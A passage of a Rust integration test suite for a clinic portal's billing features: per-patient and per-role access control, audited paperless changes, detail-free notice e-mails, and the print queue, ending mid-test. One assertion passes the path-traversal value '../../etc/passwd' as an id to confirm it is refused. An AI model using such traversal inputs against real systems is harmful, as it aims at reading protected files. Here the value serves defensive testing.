//! Billing against the running server, on both databases (SPEC R-BIL-1 … R-BIL-4): who may see
//! which account and statement (by any id, of any kind), paperless changes recorded and audited,
//! a notice or the print queue for a new statement, totals carried from the previous statement,
//! refused statements store nothing and keep the form, CSV imports all or nothing with the row
//! named, signing up makes existing accounts paperless, the PDF as an attachment that reads back,
//! and the audit trail of views and downloads.
//!
//! Every test starts its own portal with the demo clinic. Statements posted here are dated in
//! 2090, after anything the demo clinic holds whatever today's date is.

use crate::enrolment::mail_to;
use crate::on_both_databases;
use crate::support::{Backend, Client, Reply, TestPortal, DEMO_PASSWORD};
use sqlx::Row;
use std::time::Duration;

// ---------------------------------------------------------------------------------------------
// Helpers

async fn signed_in(portal: &TestPortal, login: &str, kind: &str) -> Client {
    let c = portal.client();
    let r = c.sign_in(login, DEMO_PASSWORD, kind).await;
    assert_eq!(r.status, 302, "{login} signs in: {}", r.body);
    c
}

async fn count(portal: &TestPortal, sql: &str) -> i64 {
    sqlx::query(sql).fetch_one(&portal.state.db.pool).await.unwrap().try_get::<i64, _>(0).unwrap()
}

async fn count_with(portal: &TestPortal, sql: &str, bind: &str) -> i64 {
    sqlx::query(sql).bind(bind).fetch_one(&portal.state.db.pool).await.unwrap().try_get::<i64, _>(0).unwrap()
}

async fn text(portal: &TestPortal, sql: &str, bind: &str) -> String {
    sqlx::query(sql).bind(bind).fetch_one(&portal.state.db.pool).await.unwrap().try_get::<String, _>(0).unwrap()
}

async fn user_id(portal: &TestPortal, login: &str) -> String {
    text(portal, "SELECT id FROM users WHERE login = $1", login).await
}

async fn patient_of(portal: &TestPortal, mrn: &str) -> String {
    text(portal, "SELECT id FROM patients WHERE mrn = $1", mrn).await
}

/// The demo account of a patient (by MRN): (id, number).
async fn account_of(portal: &TestPortal, mrn: &str) -> (String, String) {
    let row = sqlx::query("SELECT a.id, a.number FROM billing_accounts a JOIN patients p ON p.id = a.patient_id WHERE p.mrn = $1")
        .bind(mrn)
        .fetch_one(&portal.state.db.pool)
        .await
        .unwrap();
    (row.try_get("id").unwrap(), row.try_get("number").unwrap())
}

const ALICE: &str = "MRN100001";
const ROBERT: &str = "MRN100002";
const CAROL: &str = "MRN100003";
const DORA: &str = "MRN100004";

/// An account's statements, oldest first.
async fn statements_of(portal: &TestPortal, account: &str) -> Vec<String> {
    sqlx::query("SELECT id FROM statements WHERE account_id = $1 ORDER BY statement_date")
        .bind(account)
        .fetch_all(&portal.state.db.pool)
        .await
        .unwrap()
        .iter()
        .map(|r| r.try_get("id").unwrap())
        .collect()
}

/// A stored statement's totals in cents: (previous balance, charges, payments, adjustments,
/// amount due), and its delivery.
async fn totals_of(portal: &TestPortal, statement: &str) -> ((i64, i64, i64, i64, i64), String) {
    let row = sqlx::query("SELECT previous_balance, charges, payments, adjustments, amount_due, delivery FROM statements WHERE id = $1")
        .bind(statement)
        .fetch_one(&portal.state.db.pool)
        .await
        .unwrap();
    ((row.get("previous_balance"), row.get("charges"), row.get("payments"), row.get("adjustments"), row.get("amount_due")), row.get("delivery"))
}

/// A statement as billing staff type it into the form; a line is (date, kind, department,
/// description, amount).
struct Form {
    date: String,
    from: String,
    to: String,
    due: String,
    lines: Vec<[String; 5]>,
    amount_due: String,
}

fn line(date: &str, kind: &str, department: &str, description: &str, amount: &str) -> [String; 5] {
    [date, kind, department, description, amount].map(String::from)
}

/// A statement of the first of a month of 2090 (`month` 2…12) for the month before, with one
/// line: (kind, department, description, amount).
fn monthly(month: u32, l: (&str, &str, &str, &str), amount_due: &str) -> Form {
    let last_day = [31, 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31][month as usize - 2];
    Form {
        date: format!("2090-{month:02}-01"),
        from: format!("2090-{:02}-01", month - 1),
        to: format!("2090-{:02}-{last_day}", month - 1),
        due: format!("2090-{month:02}-25"),
        lines: vec![line(&format!("2090-{:02}-10", month - 1), l.0, l.1, l.2, l.3)],
        amount_due: amount_due.into(),
    }
}

/// Posts the statement form (multipart, as the browser sends it, a line's fields in order).
async fn post(billing: &Client, account: &str, f: &Form) -> Reply {
    let mut fields = vec![
        ("account", account),
        ("statement_date", f.date.as_str()),
        ("period_start", f.from.as_str()),
        ("period_end", f.to.as_str()),
        ("due_date", f.due.as_str()),
    ];
    for l in &f.lines {
        fields.extend([("line_date", l[0].as_str()), ("line_kind", &l[1]), ("line_department", &l[2]), ("line_description", &l[3]), ("line_amount", &l[4])]);
    }
    fields.extend([("amount_due", f.amount_due.as_str()), ("action", "post")]);
    billing.post_multipart("/api/staff/billing/post", &fields, &[]).await
}

/// Imports a CSV file through the staff form.
async fn import(billing: &Client, csv: &str) -> Reply {
    billing.post_multipart("/api/staff/billing/import", &[], &[("file", "statements.csv", csv.as_bytes().to_vec())]).await
}

/// The print queue as billing staff's page loads it: (statement id, account number, amount
/// due as shown, posted at in ms), oldest first.
async fn print_queue(billing: &Client) -> Vec<(String, String, String, i64)> {
    let r = billing.call("/api/staff/billing/print-queue").await;
    assert_eq!(r.status, 200, "{}", r.body);
    let page: serde_json::Value = serde_json::from_str(&r.body).unwrap();
    page["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| {
            (
                i["statement_id"].as_str().unwrap().to_string(),
                i["account_number"].as_str().unwrap().to_string(),
                i["amount_due"].as_str().unwrap().to_string(),
                i["queue_position"].as_i64().unwrap(),
            )
        })
        .collect()
}

/// The statement ids in the print queue CSV (the last column).
fn csv_statement_ids(csv: &str) -> Vec<String> {
    let mut lines = csv.lines();
    assert_eq!(lines.next(), Some("account_number,guarantor,address,statement_date,amount_due,due_date,statement_id"));
    lines.map(|l| l.rsplit(',').next().unwrap().to_string()).collect()
}

/// The text of a PDF, as `pdftotext -layout` reads it (poppler-utils).
fn pdf_text(bytes: &[u8]) -> String {
    let path = std::env::temp_dir().join(format!("portal-api-billing-{}.pdf", app::platform::tokens::new_id()));
    std::fs::write(&path, bytes).unwrap();
    let out = std::process::Command::new("pdftotext").arg("-layout").arg(&path).arg("-").output();
    std::fs::remove_file(&path).ok();
    let out = out.expect("pdftotext (poppler-utils) is installed");
    assert!(out.status.success(), "pdftotext: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap()
}

/// A download's bytes, status and headers.
async fn download(c: &Client, path: &str) -> (u16, reqwest::header::HeaderMap, Vec<u8>) {
    let r = c.http.get(format!("{}{path}", c.base)).send().await.unwrap();
    let status = r.status().as_u16();
    let headers = r.headers().clone();
    (status, headers, r.bytes().await.unwrap().to_vec())
}

fn header<'a>(h: &'a reqwest::header::HeaderMap, name: &str) -> &'a str {
    h.get(name).and_then(|v| v.to_str().ok()).unwrap_or_default()
}

/// Everything billing holds, as text: accounts and their delivery, statements and whether
/// printed, lines, delivery changes, drafts, the patients' choice, notices, billing audit entries.
async fn billing_state(portal: &TestPortal) -> Vec<String> {
    let pool = &portal.state.db.pool;
    let mut out = Vec::new();
    for r in sqlx::query("SELECT id, number, delivery, mailing_address FROM billing_accounts ORDER BY id").fetch_all(pool).await.unwrap() {
        out.push(format!("account {} {} {} {:?}", r.get::<String, _>(0), r.get::<String, _>(1), r.get::<String, _>(2), r.get::<String, _>(3)));
    }
    for r in sqlx::query("SELECT id, amount_due, delivery, printed_at FROM statements ORDER BY id").fetch_all(pool).await.unwrap() {
        out.push(format!("statement {} {} {} {:?}", r.get::<String, _>(0), r.get::<i64, _>(1), r.get::<String, _>(2), r.get::<Option<i64>, _>(3)));
    }
    for r in sqlx::query("SELECT id, statement_delivery FROM patients ORDER BY id").fetch_all(pool).await.unwrap() {
        out.push(format!("patient {} {}", r.get::<String, _>(0), r.get::<String, _>(1)));
    }
    for (what, sql) in [
        ("lines", "SELECT COUNT(*) FROM statement_lines"),
        ("changes", "SELECT COUNT(*) FROM delivery_changes"),
        ("drafts", "SELECT COUNT(*) FROM billing_drafts"),
        ("outbox", "SELECT COUNT(*) FROM outbox"),
        ("billing audit", "SELECT COUNT(*) FROM audit_log WHERE action LIKE 'billing.%'"),
    ] {
        out.push(format!("{what} {}", count(portal, sql).await));
    }
    out
}

/// The audit entries of one action, oldest first: (actor, record id, detail).
async fn audit_of(portal: &TestPortal, action: &str) -> Vec<(Option<String>, Option<String>, Option<String>)> {
    sqlx::query("SELECT actor_id, record_id, detail FROM audit_log WHERE action = $1 ORDER BY seq")
        .bind(action)
        .fetch_all(&portal.state.db.pool)
        .await
        .unwrap()
        .iter()
        .map(|r| (r.get("actor_id"), r.get("record_id"), r.get("detail")))
        .collect()
}

/// The delivery changes of an account other than its opening, sorted: (cause, from, to, by).
async fn changes_of(portal: &TestPortal, account: &str) -> Vec<(String, String, String, String)> {
    let mut got: Vec<(String, String, String, String)> =
        sqlx::query("SELECT cause, from_delivery, to_delivery, changed_by FROM delivery_changes WHERE account_id = $1 AND cause <> 'opened'")
            .bind(account)
            .fetch_all(&portal.state.db.pool)
            .await
            .unwrap()
            .iter()
            .map(|r| (r.get("cause"), r.get("from_delivery"), r.get("to_delivery"), r.get("changed_by")))
            .collect();
    got.sort();
    got
}

fn change(cause: &str, from: &str, to: &str, by: &str) -> (String, String, String, String) {
    (cause.into(), from.into(), to.into(), by.into())
}

/// Every billing staff server function but the two multipart ones, with fields aimed at
/// `account` that billing staff would have answered.
fn staff_functions<'a>(account: &'a str, patient: &'a str, number: &'a str) -> Vec<(&'static str, Vec<(&'static str, &'a str)>)> {
    vec![
        ("/api/staff/billing/search", vec![("q", number)]),
        ("/api/staff/billing/open", vec![("patient", patient), ("address", "9 Any Road\nRiverside, ST 00000")]),
        ("/api/staff/billing/account", vec![("id", account)]),
        ("/api/staff/billing/delivery", vec![("account", account), ("delivery", "paper")]),
        ("/api/staff/billing/delivery", vec![("account", account), ("delivery", "paperless")]),
        ("/api/staff/billing/statement-form", vec![("account", account)]),
        ("/api/staff/billing/clear", vec![("account", account)]),
        ("/api/staff/billing/import-result", vec![]),
        ("/api/staff/billing/print-queue", vec![]),
        // Everything posted so far, if it were let through.
        ("/api/staff/billing/printed", vec![("until", "9000000000000000")]),
    ]
}

/// The two multipart staff functions (statement form, CSV import) with a body billing staff
/// would have had accepted for Alice's account (balance $200.05); their statuses.
async fn try_multipart(c: &Client, account: &str, number: &str) -> (u16, u16) {
    let (posted, imported) = multipart_replies(c, account, number).await;
    (posted.status, imported.status)
}

async fn multipart_replies(c: &Client, account: &str, number: &str) -> (Reply, Reply) {
    let form = monthly(2, ("charge", "Cardiology", "Echocardiogram", "300.00"), "500.05");
    let posted = post(c, account, &form).await;
    let csv = format!("{HEADER}\n{number},2090-02-01,2090-01-01,2090-01-31,2090-02-25,500.05,2090-01-10,charge,Cardiology,Echocardiogram,300.00\n");
    let imported = import(c, &csv).await;
    (posted, imported)
}

// ---------------------------------------------------------------------------------------------
// Who may see what

/// A patient sees the accounts whose guarantor is their own record, and nothing else by any id:
/// another patient's account, statement, and ids of the wrong kind answer 404 on the account
/// page's function, the paperless update and the statement PDF, and change nothing. Signed out,
/// nothing answers. A patient never reaches the staff side.
async fn a_patient_reaches_only_their_own(backend: Backend) {
    let portal = TestPortal::start(backend).await;
    let (alice_account, alice_number) = account_of(&portal, ALICE).await;
    let (robert_account, robert_number) = account_of(&portal, ROBERT).await;
    let alice_statements = statements_of(&portal, &alice_account).await;
    let robert_statements = statements_of(&portal, &robert_account).await;
    assert_eq!((alice_statements.len(), robert_statements.len()), (2, 1), "the demo clinic's statements");
    let alice_patient = patient_of(&portal, ALICE).await;
    let alice_user = user_id(&portal, "alice").await;

    let robert = signed_in(&portal, "robert", "patient").await;
    // His own: the summary lists exactly his account; the account page and his statement open.
    let r = robert.call("/api/billing/accounts").await;
    assert_eq!(r.status, 200, "{}", r.body);
    let summary: Vec<app::billing::AccountSummary> = serde_json::from_str(&r.body).unwrap();
    assert_eq!(summary.iter().map(|a| a.number.as_str()).collect::<Vec<_>>(), [robert_number.as_str()]);
    assert_eq!(summary[0].balance.cents(), 15_000);
    let r = robert.call_form("/api/billing/account", &[("id", &robert_account)]).await;
    assert_eq!(r.status, 200, "{}", r.body);
    let view: app::billing::AccountView = serde_json::from_str(&r.body).unwrap();
    assert_eq!(view.statements.iter().map(|s| s.id.to_string()).collect::<Vec<_>>(), robert_statements);

    let before = billing_state(&portal).await;
    // Alice's account and statements, her patient record and user id, an id that is nobody's,
    // and Robert's own ids given as the other kind.
    let nobody = "0123456789abcdef0123456789abcdef".to_string();
    let mut foreign: Vec<String> = vec![alice_account.clone(), alice_patient.clone(), alice_user.clone(), nobody.clone()];
    foreign.extend(alice_statements.iter().cloned());
    for id in &foreign {
        let r = robert.call_form("/api/billing/account", &[("id", id)]).await;
        assert_eq!(r.status, 404, "account {id}: {}", r.body);
        assert!(!r.body.contains(&alice_number) && !r.body.contains("Alice"), "{}", r.body);
        for delivery in ["paper", "paperless"] {
            let r = robert.call_form("/api/billing/delivery", &[("account", id), ("delivery", delivery)]).await;
            assert_eq!(r.status, 404, "delivery {delivery} of {id}: {}", r.body);
            // The same as a plain HTML form: 404, back to the page it came from.
            let r = robert.post_form("/api/billing/delivery", &[("account", id), ("delivery", delivery)]).await;
            assert_eq!(r.status, 404, "delivery {delivery} of {id} as a plain form: {:?}", r.location());
        }
        let r = robert.get(&format!("/billing/statements/{id}.pdf")).await;
        assert_eq!(r.status, 404, "statement {id}");
        let r = robert.get(&format!("/billing/accounts/{id}")).await;
        assert_eq!(r.status, 404, "the account page of {id}");
        assert!(!r.body.contains(&alice_number) && !r.body.contains("12 Elm Street"), "Alice's account page shows nothing of hers");
    }
    // The wrong kind of his own ids.
    for id in &robert_statements {
        let r = robert.call_form("/api/billing/account", &[("id", id)]).await;
        assert_eq!(r.status, 404, "his statement id as an account: {}", r.body);
        let r = robert.call_form("/api/billing/delivery", &[("account", id), ("delivery", "paper")]).await;
        assert_eq!(r.status, 404, "his statement id as an account: {}", r.body);
    }
    let r = robert.get(&format!("/billing/statements/{robert_account}.pdf")).await;
    assert_eq!(r.status, 404, "his account id as a statement");
    // Not an id at all.
    for bad in ["", "x", "../../etc/passwd", &alice_account.to_uppercase()] {
        assert_eq!(robert.call_form("/api/billing/account", &[("id", bad)]).await.status, 404, "{bad:?}");
    }
    assert_eq!(billing_state(&portal).await, before, "nothing changed, nothing audited");

    // A patient never reaches the staff side: every function is refused (403) and the staff
    // downloads send them to the staff sign-in page.
    for (path, form) in staff_functions(&robert_account, &alice_patient, &robert_number) {
        let r = robert.call_form(path, &form).await;
        assert_eq!(r.status, 403, "{path} {form:?}: {}", r.body);
    }
    assert_eq!(try_multipart(&robert, &alice_account, &alice_number).await, (403, 403), "post and import");
    for path in [
        format!("/staff/billing/statements/{}.pdf", robert_statements[0]),
        format!("/staff/billing/statements/{}.pdf", alice_statements[0]),
        "/staff/billing/print-queue.csv".into(),
        "/staff/billing/print-queue.pdf".into(),
    ] {
        let r = robert.get(&path).await;
        assert_eq!((r.status, r.location()), (303, Some("/staff/sign-in")), "{path}");
    }
    assert_eq!(billing_state(&portal).await, before, "nothing changed, nothing audited");

    // Signed out: every billing function answers 401, every page and download leads to sign-in.
    let anonymous = portal.client();
    assert_eq!(anonymous.call("/api/billing/accounts").await.status, 401);
    assert_eq!(anonymous.call_form("/api/billing/account", &[("id", &alice_account)]).await.status, 401);
    assert_eq!(anonymous.call_form("/api/billing/delivery", &[("account", &alice_account), ("delivery", "paper")]).await.status, 401);
    for (path, form) in staff_functions(&alice_account, &alice_patient, &alice_number) {
        assert_eq!(anonymous.call_form(path, &form).await.status, 401, "{path}");
    }
    // (Those two are plain form posts, with files: without a session they lead to sign-in.)
    let (posted, imported) = multipart_replies(&anonymous, &alice_account, &alice_number).await;
    for r in [posted, imported] {
        assert_eq!((r.status, r.location()), (303, Some("/staff/sign-in")), "post and import");
    }
    for (path, to) in [
        (format!("/billing/statements/{}.pdf", alice_statements[0]), "/sign-in"),
        (format!("/billing/accounts/{alice_account}"), "/sign-in"),
        (format!("/staff/billing/statements/{}.pdf", alice_statements[0]), "/staff/sign-in"),
        ("/staff/billing/print-queue.csv".into(), "/staff/sign-in"),
        ("/staff/billing/print-queue.pdf".into(), "/staff/sign-in"),
    ] {
        let r = anonymous.get(&path).await;
        assert_eq!((r.status, r.location()), (303, Some(to)), "{path}");
    }
    assert_eq!(billing_state(&portal).await, before, "nothing changed, nothing audited");

    // And his own statement still opens.
    let r = robert.get(&format!("/billing/statements/{}.pdf", robert_statements[0])).await;
    assert_eq!(r.status, 200, "his own statement");
    portal.stop().await;
}

/// Staff of every role but billing are refused every billing staff function and download, and
/// nothing changes; billing staff reach every function and every statement's PDF.
async fn only_billing_staff_reach_the_staff_side(backend: Backend) {
    let portal = TestPortal::start(backend).await;
    let (alice_account, alice_number) = account_of(&portal, ALICE).await;
    let alice_patient = patient_of(&portal, ALICE).await;
    let all_statements: Vec<String> =
        sqlx::query("SELECT id FROM statements ORDER BY id").fetch_all(&portal.state.db.pool).await.unwrap().iter().map(|r| r.get("id")).collect();
    assert_eq!(all_statements.len(), 5, "the demo clinic's statements");

    for login in ["frontdesk", "drlee", "nursekim", "admin", "auditor"] {
        let c = signed_in(&portal, login, "staff").await;
        let before = billing_state(&portal).await;
        for (path, form) in staff_functions(&alice_account, &alice_patient, &alice_number) {
            let r = c.call_form(path, &form).await;
            assert_eq!(r.status, 403, "{login} {path} {form:?}: {}", r.body);
            let r = c.post_form(path, &form).await;
            assert_eq!(r.status, 403, "{login} {path} as a plain form: {:?}", r.location());
        }
        assert_eq!(try_multipart(&c, &alice_account, &alice_number).await, (403, 403), "{login} posts and imports");
        for id in &all_statements {
            let (status, _, bytes) = download(&c, &format!("/staff/billing/statements/{id}.pdf")).await;
            assert_eq!(status, 403, "{login} statement {id}");
            assert!(!bytes.starts_with(b"%PDF"));
        }
        for path in ["/staff/billing/print-queue.csv", "/staff/billing/print-queue.pdf", "/staff/billing/print-queue.pdf?until=9000000000000000"] {
            assert_eq!(c.get(path).await.status, 403, "{login} {path}");
        }
        // The patients' side is not theirs either.
        assert_eq!(c.call_form("/api/billing/account", &[("id", &alice_account)]).await.status, 403, "{login}");
        let r = c.get(&format!("/billing/statements/{}.pdf", all_statements[0])).await;
        assert_eq!((r.status, r.location()), (303, Some("/sign-in")), "{login}");
        assert_eq!(billing_state(&portal).await, before, "{login}: nothing changed, nothing audited");
    }

    // Billing staff: every function answers, and every statement's PDF downloads.
    let billing = signed_in(&portal, "billing", "staff").await;
    let r = billing.call_form("/api/staff/billing/search", &[("q", &alice_number)]).await;
    assert_eq!(r.status, 200);
    assert!(r.body.contains(&alice_account) && r.body.contains("Johnson"), "{}", r.body);
    for (path, form) in [
        ("/api/staff/billing/account", vec![("id", alice_account.as_str())]),
        ("/api/staff/billing/statement-form", vec![("account", alice_account.as_str())]),
        ("/api/staff/billing/import-result", vec![]),
        ("/api/staff/billing/print-queue", vec![]),
    ] {
        let r = billing.call_form(path, &form).await;
        assert_eq!(r.status, 200, "{path}: {}", r.body);
    }
    for id in &all_statements {
        let (status, headers, bytes) = download(&billing, &format!("/staff/billing/statements/{id}.pdf")).await;
        assert_eq!(status, 200, "statement {id}");
        assert_eq!(header(&headers, "content-type"), "application/pdf");
        assert!(bytes.starts_with(b"%PDF-"), "statement {id} is a PDF");
    }
    // The bodies the others were refused: billing staff's statement is posted, and the same one
    // imported after it is refused as out of order (the file was read and the account found).
    let (posted, imported) = multipart_replies(&billing, &alice_account, &alice_number).await;
    assert_eq!(posted.location(), Some(format!("/staff/billing/accounts/{alice_account}?posted=notified").as_str()), "{}", posted.body);
    assert_eq!(imported.location(), Some("/staff/billing/import?refused=1"));
    let page = billing.get("/staff/billing/import?refused=1").await;
    assert!(page.body.contains(&format!("Row 2: account {alice_number} already has a statement dated February 1, 2090 or later")), "{}", page.body);
    // Billing staff use the staff paths; the patients' pages are not theirs.
    let r = billing.get(&format!("/billing/statements/{}.pdf", all_statements[0])).await;
    assert_eq!((r.status, r.location()), (303, Some("/sign-in")));
    portal.stop().await;
}

// ---------------------------------------------------------------------------------------------
// Paperless billing

/// The patient turns paperless off and on again, billing staff change it at the patient's
/// request: each change is recorded (cause, from, to, by whom) and audited with its detail, the
/// patient's record follows, and choosing what is already set records nothing.
async fn paperless_changes_are_recorded_and_audited(backend: Backend) {
    let portal = TestPortal::start(backend).await;
    let (account, _) = account_of(&portal, CAROL).await;
    let carol_user = user_id(&portal, "carol").await;
    let billing_user = user_id(&portal, "billing").await;
    let delivery = || text(&portal, "SELECT delivery FROM billing_accounts WHERE id = $1", &account);
    let chosen = || text(&portal, "SELECT statement_delivery FROM patients WHERE mrn = $1", CAROL);
    assert_eq!((delivery().await, chosen().await), ("paperless".into(), "paperless".into()));
    assert!(changes_of(&portal, &account).await.is_empty());

    let carol = signed_in(&portal, "carol", "patient").await;
    let choose = |to: &'static str| {
        let (carol, account) = (&carol, &account);
        async move { carol.post_form("/api/billing/delivery", &[("account", account), ("delivery", to)]).await }
    };
    let r = choose("paper").await;
    assert_eq!(r.location(), Some(format!("/billing/accounts/{account}?delivery=paper#paperless").as_str()), "{}", r.body);
    assert_eq!(changes_of(&portal, &account).await, [change("patient", "paperless", "paper", &carol_user)]);
    assert_eq!((delivery().await, chosen().await), ("paper".into(), "paper".into()));
    let audit = audit_of(&portal, "billing.delivery-changed").await;
    assert_eq!(audit, [(Some(carol_user.clone()), Some(account.clone()), Some("paperless to paper".into()))]);

    // The same choice again: answered, nothing recorded.
    let r = choose("paper").await;
    assert_eq!(r.location(), Some(format!("/billing/accounts/{account}?delivery=paper#paperless").as_str()));
    assert_eq!(changes_of(&portal, &account).await.len(), 1);
    assert_eq!(audit_of(&portal, "billing.delivery-changed").await.len(), 1);
    // Neither choice: sent back to choose, nothing recorded.
    let r = choose("email").await;
    assert_eq!(r.location(), Some(format!("/billing/accounts/{account}/paperless?error=choose").as_str()));
    assert_eq!(changes_of(&portal, &account).await.len(), 1);

    let r = choose("paperless").await;
    assert_eq!(r.location(), Some(format!("/billing/accounts/{account}?delivery=paperless#paperless").as_str()));
    assert_eq!(
        changes_of(&portal, &account).await,
        [change("patient", "paper", "paperless", &carol_user), change("patient", "paperless", "paper", &carol_user)]
    );
    assert_eq!((delivery().await, chosen().await), ("paperless".into(), "paperless".into()));

    // Billing staff, at the patient's request.
    let billing = signed_in(&portal, "billing", "staff").await;
    let r = billing.post_form("/api/staff/billing/delivery", &[("account", &account), ("delivery", "paper")]).await;
    assert_eq!(r.location(), Some(format!("/staff/billing/accounts/{account}?delivery=paper").as_str()), "{}", r.body);
    let r = billing.post_form("/api/staff/billing/delivery", &[("account", &account), ("delivery", "paper")]).await;
    assert_eq!(r.location(), Some(format!("/staff/billing/accounts/{account}?delivery=paper").as_str()), "the same again");
    assert_eq!(
        changes_of(&portal, &account).await,
        [
            change("patient", "paper", "paperless", &carol_user),
            change("patient", "paperless", "paper", &carol_user),
            change("staff", "paperless", "paper", &billing_user),
        ]
    );
    assert_eq!((delivery().await, chosen().await), ("paper".into(), "paper".into()));
    assert_eq!(
        audit_of(&portal, "billing.delivery-changed").await,
        [
            (Some(carol_user.clone()), Some(account.clone()), Some("paperless to paper".into())),
            (Some(carol_user.clone()), Some(account.clone()), Some("paper to paperless".into())),
            (Some(billing_user.clone()), Some(account.clone()), Some("paperless to paper".into())),
        ]
    );

    // The patient sees the history, newest first.
    let page = carol.get(&format!("/billing/accounts/{account}")).await;
    assert_eq!(page.status, 200);
    let staff_at = page.body.find("paperless → paper (Billing office (Sam Patel))").expect("the staff change is listed");
    let off_at = page.body.find("paperless → paper (You, in the portal)").expect("her change is listed");
    let on_at = page.body.find("paper → paperless (You, in the portal)").expect("her change back is listed");
    assert!(staff_at < on_at && on_at < off_at, "newest first");
    portal.stop().await;
}

// ---------------------------------------------------------------------------------------------
// Posting: notice or print queue, totals, refusals

/// A statement on a paperless account queues exactly one notice, to the patient's address, that
/// says nothing of the statement; it is not in the print queue.
async fn a_paperless_statement_sends_a_notice_without_details(backend: Backend) {
    let portal = TestPortal::start(backend).await;
    let (account, number) = account_of(&portal, ALICE).await;
    let billing = signed_in(&portal, "billing", "staff").await;
    let outbox_before = count(&portal, "SELECT COUNT(*) FROM outbox").await;
    let queue_before = print_queue(&billing).await;

    let mut form = monthly(2, ("charge", "Cardiology", "Echocardiogram", "300.00"), "575.30");
    form.lines.push(line("2090-01-08", "charge", "Cardiology", "Stress test", "75.25"));
    let r = post(&billing, &account, &form).await;
    assert_eq!(r.location(), Some(format!("/staff/billing/accounts/{account}?posted=notified").as_str()), "{}", r.body);
    let statement = statements_of(&portal, &account).await.pop().unwrap();
    assert_eq!(totals_of(&portal, &statement).await, ((20_005, 37_525, 0, 0, 57_530), "paperless".into()));

    // Exactly one notice, to Alice.
    assert_eq!(count(&portal, "SELECT COUNT(*) FROM outbox").await, outbox_before + 1);
    let recipients: Vec<String> =
        sqlx::query_scalar("SELECT recipient FROM outbox WHERE notice = 'new-statement'").fetch_all(&portal.state.db.pool).await.unwrap();
    assert_eq!(recipients, ["alice.johnson@example.org"]);
    let mail = mail_to(&portal, "alice.johnson@example.org", "new billing statement", 20).await;
    let text = mail.text();
    for secret in ["575.30", "300.00", "75.25", "200.05", "Echocardiogram", "Stress test", "Cardiology", "February", &number, &statement, &account] {
        assert!(!text.contains(secret), "the notice mentions {secret:?}:\n{text}");
    }
    assert!(text.contains("Billing"), "it says where to look:\n{text}");
    // Not mailed twice.
    tokio::time::sleep(Duration::from_millis(500)).await;
    let statement_mails = portal.smtp.received().into_iter().filter(|m| m.text().contains("new billing statement")).count();
    assert_eq!(statement_mails, 1);

    // Not in the print queue, neither the page's list nor the CSV.
    assert_eq!(print_queue(&billing).await, queue_before);
    assert!(queue_before.iter().all(|i| i.1 != number));
    let csv = billing.get("/staff/billing/print-queue.csv").await;
    assert_eq!(csv.status, 200);
    assert!(!csv.body.contains(&number) && !csv.body.contains(&statement), "{}", csv.body);
    portal.stop().await;
}

/// A statement on a paper account raises no notice and waits in the print queue (page list,
/// CSV, one PDF); marking printed covers what was listed (up to `until`) and nothing posted
/// after.
async fn a_paper_statement_waits_in_the_print_queue(backend: Backend) {
    let portal = TestPortal::start(backend).await;
    let (carol_account, carol_number) = account_of(&portal, CAROL).await;
    let (dora_account, dora_number) = account_of(&portal, DORA).await;
    let dora_statement = statements_of(&portal, &dora_account).await.pop().unwrap();
    let billing = signed_in(&portal, "billing", "staff").await;
    let billing_user = user_id(&portal, "billing").await;
    let queue = print_queue(&billing).await;
    assert_eq!(
        queue.iter().map(|i| (i.0.as_str(), i.1.as_str(), i.2.as_str())).collect::<Vec<_>>(),
        [(dora_statement.as_str(), dora_number.as_str(), "$210.00")]
    );

    // Carol asked for paper statements (by phone).
    let r = billing.post_form("/api/staff/billing/delivery", &[("account", &carol_account), ("delivery", "paper")]).await;
    assert_eq!(r.status, 302);
    let outbox_before = count(&portal, "SELECT COUNT(*) FROM outbox").await;
    let r = post(&billing, &carol_account, &monthly(2, ("charge", "Family Medicine", "Office visit", "40.00"), "190.00")).await;
    assert_eq!(r.location(), Some(format!("/staff/billing/accounts/{carol_account}?posted=print-queue").as_str()), "{}", r.body);
    let first = statements_of(&portal, &carol_account).await.pop().unwrap();
    assert_eq!(totals_of(&portal, &first).await, ((15_000, 4_000, 0, 0, 19_000), "paper".into()));
    assert_eq!(count(&portal, "SELECT COUNT(*) FROM outbox").await, outbox_before, "no notice for paper");

    let queue = print_queue(&billing).await;
    assert_eq!(
        queue.iter().map(|i| (i.0.as_str(), i.1.as_str(), i.2.as_str())).collect::<Vec<_>>(),
        [(dora_statement.as_str(), dora_number.as_str(), "$210.00"), (first.as_str(), carol_number.as_str(), "$190.00")]
    );
    let csv = billing.get("/staff/billing/print-queue.csv").await;
    assert_eq!(csv.status, 200);
    assert_eq!(csv.header("content-type"), Some("text/csv; charset=utf-8"));
    assert_eq!(csv_statement_ids(&csv.body), [dora_statement.clone(), first.clone()]);
    let row = csv.body.lines().find(|l| l.contains(&first)).unwrap();
    assert_eq!(row, format!("{carol_number},Carol Nguyen,\"7 Birch Lane, Riverside, ST 00000\",\"February 1, 2090\",190.00,\"February 25, 2090\",{first}"));
    // What the page lists: posted up to the newest it shows.
    let until = queue.iter().map(|i| i.3).max().unwrap();
    tokio::time::sleep(Duration::from_millis(5)).await;

    // Posted after the page was listed.
    let r = post(&billing, &carol_account, &monthly(3, ("charge", "Family Medicine", "Follow-up visit", "10.00"), "200.00")).await;
    assert_eq!(r.location(), Some(format!("/staff/billing/accounts/{carol_account}?posted=print-queue").as_str()));
    let later = statements_of(&portal, &carol_account).await.pop().unwrap();
    assert_eq!(totals_of(&portal, &later).await, ((19_000, 1_000, 0, 0, 20_000), "paper".into()));
    assert_eq!(count(&portal, "SELECT COUNT(*) FROM outbox").await, outbox_before, "no notice for paper");

    // The downloads up to `until` hold what the page listed, not the later one.
    let csv = billing.get(&format!("/staff/billing/print-queue.csv?until={until}")).await;
    assert_eq!(csv_statement_ids(&csv.body), [dora_statement.clone(), first.clone()]);
    let (status, headers, bytes) = download(&billing, &format!("/staff/billing/print-queue.pdf?until={until}")).await;
    assert_eq!(status, 200);
    assert_eq!(header(&headers, "content-type"), "application/pdf");
    assert!(bytes.starts_with(b"%PDF-"), "the print queue is one PDF");
    let pdf = pdf_text(&bytes);
    for expected in [dora_number.as_str(), "Dora Martinez", "301 Maple Court", carol_number.as_str(), "Carol Nguyen", "7 Birch Lane", "$190.00", "$210.00"] {
        assert!(pdf.contains(expected), "{expected:?} not in the print queue PDF:\n{pdf}");
    }
    assert!(!pdf.contains("Follow-up visit") && !pdf.contains("$200.00"), "the later statement is not in it:\n{pdf}");

    let r = billing.post_form("/api/staff/billing/printed", &[("until", &until.to_string())]).await;
